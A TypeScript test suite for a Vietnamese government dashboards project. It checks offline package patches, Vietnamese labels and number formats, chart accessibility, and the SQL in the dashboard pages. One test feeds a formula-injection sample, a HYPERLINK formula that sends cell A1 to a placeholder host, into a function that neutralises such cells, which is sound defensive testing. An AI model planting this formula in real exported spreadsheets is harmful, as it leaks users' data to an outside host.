/**
 * The dashboards' patches of @evidence-dev/universal-sql (offline) and of Evidence's page layout
 * (DuckDB-WASM started while the tables load), and their vi-VN number text.
 * Needs dashboards/node_modules (`npm ci --prefix dashboards`).
 */
import { execFile } from 'node:child_process';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DASHBOARDS_DIR, neutralisedSelect } from '../../functions/dashboards/build.js';
import { literal, withDuckDb } from '../../functions/core/engine/duckdb.js';
// @ts-expect-error plain JS module of the dashboards project (no types)
import { viDateCode, viNumberText } from '../../dashboards/components/vi-format.js';
import { fmtRate } from '../../functions/core/report/model.js';

const run = promisify(execFile);
const USQL = path.join(DASHBOARDS_DIR, 'node_modules', '@evidence-dev', 'universal-sql');
const PATCHED_FILES = ['src/client-duckdb/node.js', 'src/client-duckdb/browser.js', 'src/build-parquet.js'];

function patchFile(pkg = 'universal-sql'): string {
  const patches = readdirSync(path.join(DASHBOARDS_DIR, 'patches')).filter((f) => f.startsWith(`@evidence-dev+${pkg}+`));
  expect(patches).toHaveLength(1);
  return path.join(DASHBOARDS_DIR, 'patches', patches[0] as string);
}

/** The page layout of Evidence's template: starts DuckDB-WASM while the tables are fetched (docs/evidence-offline-patch.md). */
const LAYOUT = 'template/src/pages/+layout.js';

describe('universal-sql offline patch when dashboards/node_modules is installed', () => {
  beforeAll(() => {
    if (!existsSync(USQL)) throw new Error(`${USQL} is missing: run npm ci --prefix dashboards`);
  });

  test('should target exactly the universal-sql version the lockfile pins and installs', () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile())?.[1];
    const lock = JSON.parse(readFileSync(path.join(DASHBOARDS_DIR, 'package-lock.json'), 'utf8')) as { packages: Record<string, { version?: string }> };
    const installed = JSON.parse(readFileSync(path.join(USQL, 'package.json'), 'utf8')) as { version: string };
    expect(version).toBe(lock.packages['node_modules/@evidence-dev/universal-sql']?.version);
    expect(installed.version).toBe(version);
  });

  test('should leave the installed files exactly in the patched state', async () => {
    // Reverse-applying succeeds only if every hunk is present as patched.
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile()], { cwd: DASHBOARDS_DIR });
    for (const file of PATCHED_FILES) expect(stdout).toContain(`checking file node_modules/@evidence-dev/universal-sql/${file}`);
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
  });

  test('should have the page layout patched too, for the exact Evidence version installed', async () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('evidence'))?.[1];
    const installed = JSON.parse(readFileSync(path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/evidence/package.json'), 'utf8')) as { version: string };
    expect(installed.version).toBe(version);
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('evidence')], { cwd: DASHBOARDS_DIR });
    expect(stdout).toContain(`checking file node_modules/@evidence-dev/evidence/${LAYOUT}`);
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
    // The browser client waits for an instantiation under way without initDB's 5 s timeout.
    expect(readFileSync(path.join(USQL, 'src/client-duckdb/browser.js'), 'utf8')).toContain('await (initializing ? initPromise : initDB())');
  });

  test('should have the components patched to Vietnamese labels, for the exact core-components version installed', async () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('core-components'))?.[1];
    const dir = path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/core-components');
    const installed = JSON.parse(readFileSync(path.join(dir, 'package.json'), 'utf8')) as { version: string };
    expect(installed.version).toBe(version);
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('core-components')], { cwd: DASHBOARDS_DIR });
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
    // What a reader sees around tables and charts, and the page menu.
    const text = (f: string): string => readFileSync(path.join(dir, 'dist', f), 'utf8');
    expect(text('unsorted/viz/table/EnterFullScreen.svelte')).toContain('Toàn màn hình');
    expect(text('unsorted/viz/table/EnterFullScreen.svelte')).not.toMatch(/>\s*Fullscreen\s*</);
    expect(text('unsorted/ui/DownloadData.svelte')).toContain("export let text = 'Tải xuống'");
    expect(text('unsorted/viz/core/ECharts.svelte')).not.toMatch(/Save Image|Download Data/);
    expect(text('organisms/layout/header/KebabMenu.svelte')).not.toMatch(/Print PDF|aria-label="Menu"/);
    expect(text('unsorted/viz/table/_DataTable.svelte')).not.toMatch(/No Results|records<|aria-label="(first|previous|next|last)-page"/);
    // A chart, table or KPI left without rows (emptySet=pass, or an input that empties it) says so in Vietnamese.
    expect(text('unsorted/viz/core/EmptyChart.svelte')).toContain("export let emptyMessage = 'Không có số liệu'");
    expect(text('unsorted/viz/core/EmptyChart.svelte')).not.toMatch(/No Records/);
    expect(text('molecules/dimension-grid/DimensionCut.svelte')).not.toMatch(/No Records/);
  });

  test('should give every chart a text alternative (ECharts aria description, role img), for the exact component-utilities version installed', async () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('component-utilities'))?.[1];
    const dir = path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/component-utilities');
    expect((JSON.parse(readFileSync(path.join(dir, 'package.json'), 'utf8')) as { version: string }).version).toBe(version);
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('component-utilities')], { cwd: DASHBOARDS_DIR });
    expect(stdout).toContain('checking file node_modules/@evidence-dev/component-utilities/src/echarts.js');
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
    const action = readFileSync(path.join(dir, 'src/echarts.js'), 'utf8');
    expect(action).toContain("node.setAttribute('role', 'img')");
    expect(action).toContain('aria: CCHC_ARIA');
  });

  test('should keep no read_parquet or Parquet COPY in the patched client and build step', () => {
    for (const file of PATCHED_FILES) {
      const text = readFileSync(path.join(USQL, file), 'utf8');
      const code = text.split('\n').filter((l) => !/^\s*(\/\/|\*|\/\*)/.test(l)).join('\n');
      expect(text, file).toContain('[offline patch]');
      expect(code, file).not.toMatch(/read_parquet\(|FORMAT '?PARQUET/i);
    }
  });

  describe('when the node side writes, merges and reads a table', () => {
    let tmp: string;
    beforeAll(async () => {
      tmp = await mkdtemp(path.join(os.tmpdir(), 'dash-usql-'));
    });
    afterAll(async () => {
      await rm(tmp, { recursive: true, force: true });
    });

    test('should return every row without any extension download', async () => {
      const { stdout } = await run(process.execPath, ['scripts/check-offline-patch.mjs', tmp], { cwd: DASHBOARDS_DIR, timeout: 120_000 });
      const result = JSON.parse(stdout.trim().split('\n').at(-1) ?? '{}') as { written: number; rows: number; total: number; names: string[]; empty: { rows: number; columns: string[] } };
      expect(result.written).toBe(4);
      expect(result.rows).toBe(4);
      expect(result.total).toBeCloseTo(1492 + 83.45 + 0.3333 + 10, 6);
      expect(result.names).toEqual(['<b>Sở Thử</b>', 'Sở Xây dựng', 'Sở Y tế', 'Sở Tư pháp']);
      // An empty mart's placeholder row (functions/dashboards/build.ts) is deleted with its flag on load.
      expect(result.empty).toEqual({ rows: 0, columns: ['name VARCHAR', 'v DOUBLE', 'd TIMESTAMP_MS'] });
    });
  });
});

describe('viNumberText given ssf output', () => {
  test.each([
    ['1,492', '1.492'],
    ['83.45', '83,45'],
    ['33.33%', '33,33%'],
    ['33.33 %', '33,33%'],
    ['2.15 điểm %', '2,15 điểm %'],
    ['-1,234,567.5', '-1.234.567,5'],
    ['1.49k', '1,49k'],
    ['(12.5)', '(12,5)'],
    ['0', '0'],
  ])('should turn %s into %s', (input, expected) => {
    expect(viNumberText(input)).toBe(expected);
  });

  test('should write a rate as vi-VN and the monthly report do ("83,45%", no space before the sign)', () => {
    // The pages' rate (ssf 0.00% through viNumberText), CLDR's vi-VN percent and the report's fmtRate agree.
    const vi = new Intl.NumberFormat('vi-VN', { style: 'percent', minimumFractionDigits: 2 }).format(0.8345);
    expect(viNumberText('83.45%')).toBe(vi);
    expect(fmtRate(0.8345)).toBe(vi);
  });
});

describe('viDateCode given a date format code', () => {
  test('should replace the ISO default with dd/mm/yyyy and keep others', () => {
    expect(viDateCode('YYYY-MM-DD')).toBe('dd/mm/yyyy');
    expect(viDateCode('mm/yyyy')).toBe('mm/yyyy');
  });
});

describe('neutralisedSelect given a table with text that a spreadsheet would run as a formula', () => {
  let tmp: string;
  beforeAll(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), 'dash-formula-'));
  });
  afterAll(async () => {
    await rm(tmp, { recursive: true, force: true });
  });

  test('should prefix a quote to text cells starting with = + - @ tab or CR and leave everything else as it was', async () => {
    const rows = await withDuckDb(async (db) => {
      await db.run(`copy (select * from (values
          (1, '=HYPERLINK("http://x.example/?"&A1,"x")', -2.5::DOUBLE, 'H99.01'),
          (2, '+84 912', 0.0, '-1'),
          (3, '@SUM(A1)', 1.0, NULL),
          (4, 'Sở Tư pháp', 2.0, chr(9) || 'tab'),
          (5, NULL, NULL, 'a=b')
        ) t(id, name, score, code)) to ${literal(path.join(tmp, 't.parquet'))} (format parquet)`);
      // Relative to the directory the generated source query runs in, as Evidence runs it.
      const select = await neutralisedSelect(db, `read_parquet('t.parquet')`, tmp);
      expect(select).not.toContain(tmp);
      return db.all(`${select} order by id`);
    });
    expect(rows.map((r) => Object.keys(r))).toEqual(Array(5).fill(['id', 'name', 'score', 'code']));
    expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"x")`, "'+84 912", "'@SUM(A1)", 'Sở Tư pháp', null]);
    expect(rows.map((r) => r.code)).toEqual(['H99.01', "'-1", null, "'\ttab", 'a=b']);
    expect(rows.map((r) => r.score)).toEqual([-2.5, 0, 1, 2, null]);
  });
});

describe('early-warning horizon in the configuration', () => {
  test('should default to 3 working days, read PIPELINE_WARNING_WORKING_DAYS and refuse more than the mart keeps (10)', async () => {
    const { loadConfig } = await import('../../functions/core/config.js');
    expect(loadConfig(undefined, {}).warningWorkingDays).toBe(3);
    expect(loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: '5' }).warningWorkingDays).toBe(5);
    expect(() => loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: '11' })).toThrow(/warningWorkingDays/);
    expect(() => loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: 'three' })).toThrow(/warningWorkingDays/);
  });
});

describe('the SQL of every dashboard page', () => {
  /** Every ```sql block of dashboards/pages (and its subfolders), with its page and first line. */
  const blocks = (dir = path.join(DASHBOARDS_DIR, 'pages')): { page: string; line: number; sql: string }[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
      const file = path.join(dir, e.name);
      if (e.isDirectory()) return blocks(file);
      if (!e.name.endsWith('.md')) return [];
      const text = readFileSync(file, 'utf8');
      return [...text.matchAll(/^```sql[^\n]*\n([\s\S]*?)^```/gm)].map((m) => ({
        page: path.relative(DASHBOARDS_DIR, file),
        line: text.slice(0, m.index).split('\n').length,
        sql: m[1]!,
      }));
    });

  test('should find the pages\' queries (the check below reads them)', () => {
    expect(blocks().length).toBeGreaterThan(50);
  });

  test('should hold no single backslash: Evidence puts a query in a JavaScript template literal, which drops it or refuses it', () => {
    // "\(" reached DuckDB as "(" (the data-quality page's duplicate-id pattern became a group and never matched);
    // "\1" fails the build. A backslash meant for DuckDB is written doubled ("\\1"); a literal "(" as "[(]".
    const single = blocks().filter((b) => b.sql.replaceAll('\\\\', '').includes('\\'));
    expect(single.map((b) => `${b.page}:${b.line}`)).toEqual([]);
  });
});
